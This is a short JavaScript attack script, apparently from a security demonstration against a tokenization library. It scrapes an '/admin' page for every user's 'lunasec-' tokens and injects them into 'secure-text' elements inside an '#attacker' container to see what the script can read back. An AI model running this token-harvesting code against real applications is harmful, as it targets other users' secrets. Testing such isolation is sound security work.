// Collect everybody's tokens and have them shown in elements of our own.
await pause(1); // until your own is shown
const page = await (await fetch("/admin")).text();
const tokens = new Set(page.match(/lunasec-[\w-]{49}/g));
await fetch("/profile"); // The application grants this session its user's own token, and no other.
console.log(`${tokens.size} tokens`);

const place = document.querySelector("#attacker");
place.hidden = false;
for (const token of tokens) {
  const element = document.createElement("secure-text");
  element.className = "value";
  element.setAttribute("token", token);
  element.addEventListener("secure-error", (event) => {
    console.log(token.slice(0, 16) + "…", event.detail.code);
  });
  place.append(element);
}
await pause(3);
for (const element of place.querySelectorAll("secure-text")) {
  console.log("what the script reads:", JSON.stringify(element.textContent));
}
